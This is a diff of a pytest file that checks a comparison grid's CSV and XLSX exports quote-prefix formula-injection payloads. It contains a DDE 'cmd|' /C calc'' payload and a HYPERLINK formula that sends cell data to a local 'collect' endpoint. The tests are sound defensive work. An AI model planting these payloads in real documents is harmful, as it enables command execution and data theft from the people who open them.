@@ -21,6 +21,7 @@ RENAMED = "=HYPERLINK(1)-fee.txt"  # a file name is a column header
 MDR = "What is the merchant discount rate?"
 INTERCHANGE_FEE = "What is the interchange fee?"
 NEGATIVE = "-5"  # a question typed as a bare negative number
+FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"  # a question pasted from the settlement document's payload
 
 
 @pytest.fixture(scope="module")
@@ -30,15 +31,22 @@ def grid(tmp_path_factory, embedder) -> CompareGrid:
     items.append(IngestItem((CASES / FEE).read_bytes().replace(b"Fern Valley", b"Fern Hill"), RENAMED))
     assert [r.status for r in svc.ingest(items, "c62")] == ["ingested"] * 4
     docs = (FEE, INTERCHANGE, SETTLEMENT, RENAMED)
-    questions = (MDR, INTERCHANGE_FEE, NEGATIVE)
+    questions = (MDR, INTERCHANGE_FEE, NEGATIVE, FORMULA)
     cells = tuple(svc.compare(list(docs), list(questions), "c62"))
     return CompareGrid("", "c62", docs, questions, cells)
 
 
 def test_the_grid_really_holds_formula_text(grid):
-    """The test means something: before export, cells start with the payloads of the documents."""
+    """The test means something: before export, a cell starts with a document's payload, a file name and two
+    questions with a trigger, and the settlement cell quotes its payload (after the figure the first line states)."""
     assert cell_text(grid.cell(INTERCHANGE, INTERCHANGE_FEE)).startswith('=HYPERLINK("http://127.0.0.1:8999/')
-    assert cell_text(grid.cell(SETTLEMENT, MDR)).startswith("@SUM(1+1)*cmd|' /C calc'!A0")
+    assert FORMULA in cell_text(grid.cell(SETTLEMENT, MDR))
+    assert all(name.startswith(FORMULA_TRIGGERS) for name in (RENAMED, NEGATIVE, FORMULA))
+
+
+def _exported(text: str) -> str:
+    """What the export must write for a cell's text: a quote before a leading trigger, the text otherwise as is."""
+    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text
 
 
 def _no_formula(text: str) -> bool:
@@ -49,23 +57,25 @@ def test_csv_export_prefixes_every_formula_cell_and_header(grid):
     rows = list(csv.reader(io.StringIO(grid_csv(grid).decode("utf-8-sig"), newline="")))
     assert rows[0] == ["question", FEE, INTERCHANGE, SETTLEMENT, "'" + RENAMED]
     by_question = {r[0]: r[1:] for r in rows[1:]}
-    assert list(by_question) == [MDR, INTERCHANGE_FEE, "'-5"]
+    assert list(by_question) == [MDR, INTERCHANGE_FEE, "'-5", "'" + FORMULA]
     hyperlink = by_question[INTERCHANGE_FEE][1]
     assert hyperlink.startswith("'=HYPERLINK(\"http://127.0.0.1:8999/collect?d=\"&B2,")
     assert hyperlink[1:] == cell_text(grid.cell(INTERCHANGE, INTERCHANGE_FEE))  # the text itself is unchanged
-    assert by_question[MDR][2].startswith("'@SUM(1+1)*cmd|' /C calc'!A0 The merchant discount rate")
+    for question, values in zip((MDR, INTERCHANGE_FEE, NEGATIVE, FORMULA), by_question.values(), strict=True):
+        assert values == [_exported(cell_text(grid.cell(d, question))) for d in (FEE, INTERCHANGE, SETTLEMENT,
+                                                                                 RENAMED)]
     assert all(_no_formula(v) for row in rows for v in row)
 
 
 def test_xlsx_export_is_all_strings_and_no_formula(grid):
     sheet = openpyxl.load_workbook(io.BytesIO(grid_xlsx(grid))).worksheets[0]
-    assert sheet.title == "Comparison" and (sheet.max_row, sheet.max_column) == (4, 5)
+    assert sheet.title == "Comparison" and (sheet.max_row, sheet.max_column) == (5, 5)
     cells = [c for row in sheet.iter_rows() for c in row]
     assert all(c.data_type == "s" and _no_formula(c.value) for c in cells if c.value is not None)
-    assert sheet["E1"].value == "'" + RENAMED and sheet["A4"].value == "'-5"
+    assert sheet["E1"].value == "'" + RENAMED and sheet["A4"].value == "'-5" and sheet["A5"].value == "'" + FORMULA
     hyperlink = sheet["C3"].value
     assert hyperlink.startswith("'=HYPERLINK(") and sheet["C3"].quotePrefix
-    assert sheet["D2"].value.startswith("'@SUM(1+1)")
+    assert sheet["D2"].value == _exported(cell_text(grid.cell(SETTLEMENT, MDR))) and FORMULA in sheet["D2"].value
     assert sheet["B1"].value == FEE and not sheet["B1"].quotePrefix
     # the XML itself holds no <f> (formula) element
     with io.BytesIO(grid_xlsx(grid)) as raw:
